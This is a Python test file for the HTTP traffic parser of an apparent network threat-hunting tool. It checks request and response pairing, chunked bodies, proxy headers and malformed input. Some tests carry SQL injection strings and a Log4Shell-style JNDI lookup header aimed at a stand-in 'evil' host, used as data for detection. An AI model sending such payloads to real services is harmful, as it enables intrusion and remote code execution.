import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.hunt.network import wire
from vedette.hunt import actions
from vedette.hunt.event import Event


def asked(path: str = "/", more: str = "", method: str = "GET") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: Shop.example:8080\r\n{more}\r\n".encode()


def told(status: int = 200, body: bytes = b"", more: str = "") -> bytes:
    return f"HTTP/1.1 {status} Fine\r\nContent-Length: {len(body)}\r\n{more}\r\n".encode() + body


def requests(talk: wire.Talk, step: int = 1 << 20) -> list[Event]:
    return sorted(wire.events(talk.frames, actions.HTTP, step), key=lambda one: (one.record, str(one.url)))


def said(*events: Event) -> list[tuple[str | None, int | None]]:
    return [(one.url, one.status) for one in events]


def test_a_request_says_what_was_asked_and_answered() -> None:
    more = "User-Agent: curl/8\r\nReferer: http://x/\r\nCookie: a=b\r\nContent-Length: 3\r\n"
    talk = wire.Talk().opened().say(asked("/login.php?next=%2F", more, "POST") + b"a=b")
    talk.hear(told(403, b"no", "Content-Type: text/html; charset=x\r\nServer: nginx\r\n"))
    (event,) = requests(talk)
    assert (event.method, event.url, event.status, event.domain) == (
        "POST",
        "/login.php?next=%2F",
        403,
        "shop.example",
    )
    assert (event.user_agent, event.referrer, event.bytes_in) == ("curl/8", "http://x/", 2)
    fields = event.fields
    assert fields["host"] == "Shop.example:8080"
    assert fields["cs-uri-stem"] == "/login.php"
    assert fields["cs-uri-query"] == "/login.php?next=%2F"
    assert fields["c-uri-extension"] == "php"
    assert fields["c-uri"] == "http://Shop.example:8080/login.php?next=%2F"
    assert fields["cs-cookie"] == "a=b"
    assert (fields["resp_mime_types"], fields["server"], fields["request_body_len"]) == (
        "text/html",
        "nginx",
        3,
    )


def test_several_requests_of_a_connection_get_their_own_answers() -> None:
    talk = wire.Talk().opened()
    for number in range(5):
        talk.say(asked(f"/{number}")).hear(told(200 + number, b"x" * 3000)[:1400], bytes(1000), bytes(650))
    for step in (1, 1 << 20):
        assert said(*requests(talk, step)) == [(f"/{number}", 200 + number) for number in range(5)]


def test_requests_in_one_segment_are_told_apart() -> None:
    talk = (
        wire.Talk()
        .opened()
        .say(asked("/a") + asked("/b") + asked("/c"))
        .hear(told(201) + told(202, b"x") + told(203))
    )
    assert said(*requests(talk)) == [("/a", 201), ("/b", 202), ("/c", 203)]


FORM = "Content-Type: application/x-www-form-urlencoded\r\n"


def sent(body: bytes, more: str = FORM) -> bytes:
    return asked("/login", f"{more}Content-Length: {len(body)}\r\n", "POST") + body


def bodies(talk: wire.Talk, step: int = 1 << 20) -> list[object]:
    return [one.fields.get("request_body") for one in requests(talk, step)]


def test_what_a_form_sends_is_kept_however_it_comes() -> None:
    form = b"user=x'+OR+1=1--&pw=a"
    whole = wire.Talk().opened().say(sent(form)).hear(told())
    pieces = wire.Talk().opened().say(*wire.split(sent(form), 40, 150, 170)).hear(told())
    waiting = wire.Talk().opened().say(sent(form)[: -len(form)]).hear(b"HTTP/1.1 100 Continue\r\n\r\n")
    for talk in (whole, pieces, waiting.say(form).hear(told())):
        for step in (1, 1 << 20):
            assert bodies(talk, step) == [form.decode()]
            assert said(*requests(talk, step)) == [("/login", 200)]


def test_requests_behind_a_body_are_found_and_what_looks_like_one_in_it_is_not() -> None:
    fake = asked("/fake") + b"x" * 9_000
    talk = wire.Talk().opened().say(*wire.split(sent(fake), 160, 1_460, 2_920, 5_000))
    talk.hear(told(201)).say(sent(b"a=1") + asked("/z")).hear(told(202), told(203))
    for step in (1, 1 << 20):
        assert said(*requests(talk, step)) == [("/login", 201), ("/login", 202), ("/z", 203)]
        first, second, third = bodies(talk, step)
        assert str(first) == fake[:4096].decode()
        assert (second, third) == ("a=1", None)


def test_a_body_in_chunks_is_put_together_and_the_next_request_is_found() -> None:
    head = asked("/up", FORM + "Transfer-Encoding: chunked\r\n", "POST")
    chunks = b"5\r\nuser=\r\n3;x=y\r\nann\r\n0\r\n\r\n"
    for parts in (
        [head + chunks + asked("/z")],
        [head, chunks[:9], chunks[9:-3], chunks[-3:], asked("/z")],
    ):
        talk = wire.Talk().opened().say(*parts).hear(told(200), told(404))
        assert bodies(talk) == ["user=ann", None]
        assert said(*requests(talk)) == [("/up", 200), ("/z", 404)]


def in_chunks(*parts: bytes, end: bytes = b"0\r\n\r\n") -> bytes:
    head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head + b"".join(b"%x\r\n%s\r\n" % (len(one), one) for one in parts) + end


def sizes(talk: wire.Talk, step: int) -> list[tuple[str | None, int | None, int | None]]:
    return [(one.url, one.status, one.bytes_in) for one in requests(talk, step)]


def test_an_answer_in_chunks_is_measured_and_the_next_one_found() -> None:
    answers = (
        in_chunks(b"x" * 3_000, b"HTTP/1.1 500 no\r\n\r\n")
        + told(404, b"no")
        + in_chunks(b"y", end=b"0\r\nA: b\r\n\r\n")
    )
    for pieces in (
        [answers],
        wire.split(answers, 30, 49, 50, 53, 1_460, 2_920, 3_080, 3_083, 3_090, len(answers) - 3),
    ):
        talk = wire.Talk().opened().say(asked("/a") + asked("/b") + asked("/c")).hear(*pieces)
        for step in (1, 1 << 20):
            assert sizes(talk, step) == [("/a", 200, 3_019), ("/b", 404, 2), ("/c", 200, 1)]


def test_an_answer_in_chunks_that_breaks_off_is_told_without_its_length() -> None:
    whole = in_chunks(b"x" * 30, b"y" * 30)
    for broken in (
        whole[:80],
        whole[:-5],
        whole[:60] + b"no chunk\r\n",
        in_chunks(b"x" * 30, end=b"fffffff\r\nabc"),
    ):
        talk = wire.Talk().opened().say(asked("/a")).hear(broken)
        for step in (1, 1 << 20):
            assert sizes(talk, step) == [("/a", 200, None)]


def test_of_many_requests_without_an_answer_few_bodies_are_kept() -> None:
    talk = wire.Talk().opened().say(*[sent(b"a=b") for _ in range(60)])
    kept = bodies(talk)
    assert (len(kept), sum(one is not None for one in kept)) == (60, 16)


def test_bodies_that_hold_no_values_are_passed() -> None:
    for kind in ("image/png", "application/octet-stream", "video/mp4"):
        talk = wire.Talk().opened().say(sent(b"a=b", f"Content-Type: {kind}\r\n")).hear(told())
        assert bodies(talk) == [None]
    for kind in ("application/json; charset=utf-8", "text/xml", "multipart/form-data; boundary=x"):
        talk = wire.Talk().opened().say(sent(b"a=b", f"Content-Type: {kind}\r\n")).hear(told())
        assert bodies(talk) == ["a=b"]


def test_an_answer_that_does_not_wait_for_the_body_is_the_answer() -> None:
    talk = (
        wire.Talk().opened().say(sent(b"a=b")[:-2]).hear(told(413)).say(b"=b", asked("/next")).hear(told(200))
    )
    assert said(*requests(talk)) == [("/login", 413), ("/next", 200)]


def test_a_body_that_breaks_off_leaves_what_follows_readable() -> None:
    talk = wire.Talk().opened().say(sent(b"a=" + b"b" * 3_000)[:500])
    talk.sequence[0] += 60_000
    talk.say(*[b"b" * 10] * 30)
    talk.sequence[0] += 1
    assert said(*requests(talk.say(asked("/next")).hear(told(200)))) == [("/login", 200), ("/next", None)]


@pytest.mark.parametrize(
    ("client", "server", "chain", "asker"),
    [
        ("10.0.0.2", "10.0.0.80", "203.0.113.7", "203.0.113.7"),
        ("10.0.0.2", "10.0.0.80", "198.51.100.1, 203.0.113.7, 10.0.0.9", "203.0.113.7"),
        ("10.0.0.2", "10.0.0.80", "unknown, 2001:db8::7", "2001:db8::7"),
        ("10.0.0.2", "10.0.0.80", "10.0.0.9, nobody", "10.0.0.2"),
        ("203.0.113.9", "10.0.0.80", "198.51.100.1", "203.0.113.9"),
        ("10.0.0.2", "93.184.216.34", "203.0.113.7", "10.0.0.2"),
    ],
)
def test_who_asked_is_whom_a_proxy_of_ours_speaks_for(
    client: str, server: str, chain: str, asker: str
) -> None:
    talk = wire.Talk(client=client, server=server).opened().say(asked("/", f"X-Forwarded-For: {chain}\r\n"))
    (event,) = requests(talk.hear(told()))
    assert (event.source_ip, event.fields["id.orig_h"], event.fields["x-forwarded-for"]) == (
        asker,
        client,
        chain,
    )


@pytest.mark.parametrize("line", [b"GET /a HTTP/1.1 ", b"GET  /a  HTTP/1.1\t", b"GET /a\tHTTP/1.1"])
def test_blanks_in_the_first_line_hide_nothing(line: bytes) -> None:
    talk = wire.Talk().opened().say(line + asked("/a")[len(b"GET /a HTTP/1.1") :]).hear(told(404))
    assert said(*requests(talk)) == [("/a", 404)]


def test_a_first_line_of_blanks_takes_no_time() -> None:
    begun = time.process_time()
    talk = wire.Talk().opened().say(b"GET /a" + b" " * 40_000 + b"b\r\n\r\n", asked("/c"))
    assert [one.url for one in requests(talk)][-1] == "/c"
    assert time.process_time() - begun < 1


def test_headers_no_browser_sends_so_are_kept() -> None:
    more = "X-Api-Version: ${jndi:ldap://evil/a}\r\nX-Plain: 1\r\nX-Tenant: a' OR '1'='1\r\nCookie: a='b'\r\n"
    talk = wire.Talk().opened().say(asked("/", more)).hear(told()).say(asked("/")).hear(told())
    odd, plain = requests(talk)
    assert odd.fields["request_headers"] == "X-Api-Version: ${jndi:ldap://evil/a}\nX-Tenant: a' OR '1'='1"
    assert "request_headers" not in plain.fields


def test_a_body_that_looks_like_a_request_is_none() -> None:
    body = asked("/evil")
    talk = (
        wire.Talk()
        .opened()
        .say(asked("/a", f"Content-Length: {len(body)}\r\n", "POST"), body)
        .hear(told(200, body))
    )
    assert said(*requests(talk)) == [("/a", 200)]


def test_provisional_answers_are_not_the_answer() -> None:
    talk = wire.Talk().opened().say(asked("/a")).hear(b"HTTP/1.1 100 Continue\r\n\r\n", told(500))
    assert said(*requests(talk)) == [("/a", 500)]


def test_an_answer_to_head_has_no_body() -> None:
    head = b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n"
    talk = wire.Talk().opened().say(asked("/a", method="HEAD"), asked("/b")).hear(head, told(404))
    assert said(*requests(talk)) == [("/a", 200), ("/b", 404)]


def test_requests_nobody_answered_are_told_all_the_same() -> None:
    talk = wire.Talk().opened().say(asked("/a"), asked("/b"))
    assert said(*requests(talk)) == [("/a", None), ("/b", None)]


@pytest.mark.parametrize(
    ("server", "category"), [("10.1.2.3", "webserver"), ("93.184.216.34", "proxy"), ("fd00::1", "webserver")]
)
def test_rules_of_servers_look_at_ours_and_rules_of_proxies_at_others(server: str, category: str) -> None:
    client = wire.CLIENT_6 if ":" in server else wire.CLIENT
    (event,) = requests(wire.Talk(client=client, server=server).opened().say(asked()))
    assert (event.logsource.product, event.logsource.category, event.logsource.service) == (
        "zeek",
        category,
        "http",
    )


def test_whole_urls_name_their_host() -> None:
    request = b"GET http://Other.example/x?y HTTP/1.0\r\n\r\n"
    (event,) = requests(wire.Talk(other=3128).opened().say(request))
    assert (event.domain, event.url) == ("other.example", "http://Other.example/x?y")
    assert event.fields["cs-uri-query"] == "/x?y"


def test_the_user_of_basic_authentication_is_kept_and_the_password_is_not() -> None:
    (event,) = requests(wire.Talk().opened().say(asked("/", "Authorization: Basic YWRtaW46czNjcmV0\r\n")))
    assert event.fields["username"] == "admin"
    assert "s3cret" not in repr(event)


def test_a_head_that_breaks_off_is_read_as_far_as_it_goes() -> None:
    (event,) = requests(wire.Talk().opened().say(b"GET /a HTTP/1.1\r\nHost: a.example\r\nX: "))
    assert (event.url, event.domain) == ("/a", "a.example")


@pytest.mark.parametrize(
    "data",
    [b"GET \r\n\r\n", b"POSTAL service\nx\n\n", b"HTTP/9\r\n\r\n", b"GET" + b" " * 4000, b"DELETED\n\n"],
)
def test_what_only_begins_like_http_is_not(data: bytes) -> None:
    assert requests(wire.Talk().opened().say(data)) == []


@pytest.mark.parametrize("empty", [b"\r\n\r\n", b"\n\n", b"\n\r\n", b"\r\n\n", b"\r\r\n\r\n"])
@pytest.mark.parametrize("later", [b"\r\n\r\n", b"\n\n"])
def test_a_head_ends_at_the_first_empty_line_however_lines_end(empty: bytes, later: bytes) -> None:
    more = b"GET /two HTTP/1.1\r\nHost: b" + later
    talk = wire.Talk().opened().say(b"GET /one HTTP/1.1\nHost: a" + empty + more)
    assert [(one.url, one.domain) for one in requests(talk)] == [("/one", "a"), ("/two", "b")]


def test_a_header_counts_once_however_it_is_written() -> None:
    others = "".join(f"X-{number}: {number}\r\n" for number in range(190))
    (event,) = requests(wire.Talk().opened().say(asked(more=f"HOST: b\r\n{others} USER-agent : x\r\n")))
    assert (event.domain, event.user_agent) == ("shop.example", "x")


def test_bytes_that_are_no_text_are_escaped() -> None:
    (event,) = requests(wire.Talk().opened().say(b"GET /\xff\xfe HTTP/1.1\r\nHost: a\r\n\r\n"))
    assert event.url == "/\\xff\\xfe"


def test_devices_being_looked_for_are_told() -> None:
    search = b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: ssdp:all\r\n\r\n"
    frames = [
        (wire.START + one, wire.udp(wire.CLIENT, 5000, "239.255.255.250", 1900, search)) for one in range(3)
    ]
    found = [one for one in wire.events(frames) if one.action != actions.CONNECTION]
    assert [(one.protocol, one.method, one.domain) for one in found] == [
        ("ssdp", "M-SEARCH", "239.255.255.250")
    ] * 3


@given(
    st.lists(
        st.sampled_from(
            [
                b"GET ",
                b"/a",
                b" HTTP/1.1",
                b"\r\n",
                b"Host: x",
                b"\n\n",
                b"HTTP/1.1 200 ",
                b"\0",
                b":",
                b"Content-Length: 9",
            ]
        ),
        max_size=30,
    ).map(b"".join),
    st.binary(max_size=40),
)
def test_any_talk_is_survived(one: bytes, two: bytes) -> None:
    wire.events(wire.Talk().opened().say(b"GET " + one + two).hear(b"HTTP" + two + one).frames)
